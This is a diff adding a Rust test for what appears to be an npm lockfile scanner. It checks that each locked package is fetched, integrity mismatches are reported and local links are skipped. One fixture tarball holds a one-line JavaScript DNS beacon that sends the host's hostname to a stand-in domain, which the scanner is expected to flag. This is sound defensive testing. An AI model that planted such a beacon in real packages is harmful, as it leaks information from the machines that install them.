@@ -51,3 +51,27 @@ fn npm_target_with_wrong_integrity_is_an_error() {
     assert_eq!(code, Some(2));
     assert!(doc["targets"][0]["error"].as_str().unwrap().contains("integrity check failed"), "{doc}");
 }
+
+#[test]
+fn lockfile_packages_are_fetched_and_scanned_each() {
+    let bad = tarball("require('dns').lookup(require('os').hostname() + '.x.example.top', () => {});");
+    let good = tarball("module.exports = (a, b) => a + b;");
+    let reg = FakeRegistry::new(&[("bad", "1.0.0", &bad, serde_json::json!({})), ("good", "2.0.0", &good, serde_json::json!({}))], &sri);
+    let dir = tempfile::tempdir().unwrap();
+    let lock = serde_json::json!({ "lockfileVersion": 3, "packages": {
+        "": { "name": "app" },
+        "node_modules/bad": { "version": "1.0.0", "resolved": format!("{}bad/-/1.0.0.tgz", reg.url), "integrity": sri(&bad) },
+        "node_modules/good": { "version": "2.0.0", "resolved": format!("{}good/-/2.0.0.tgz", reg.url), "integrity": sri(b"not what the registry has") },
+        "node_modules/local": { "resolved": "packages/local", "link": true }
+    }});
+    let path = dir.path().join("package-lock.json");
+    std::fs::write(&path, serde_json::to_vec(&lock).unwrap()).unwrap();
+    let (code, doc) = scan(&reg, dir.path(), &[path.to_str().unwrap()]);
+    assert_eq!(code, Some(1), "{doc}");
+    let targets = doc["targets"].as_array().unwrap();
+    assert!(targets[0]["source"].as_str().unwrap().contains("2 registry packages"), "{}", targets[0]);
+    assert!(targets[0]["warnings"][0].as_str().unwrap().contains("skipped local"), "{}", targets[0]);
+    let by_name = |n: &str| targets.iter().find(|t| t["target"] == n).unwrap_or_else(|| panic!("{n} in {doc}"));
+    assert!(!by_name("npm:bad@1.0.0")["findings"].as_array().unwrap().is_empty());
+    assert!(by_name("npm:good@2.0.0")["error"].as_str().unwrap().contains("lockfile's integrity"));
+}
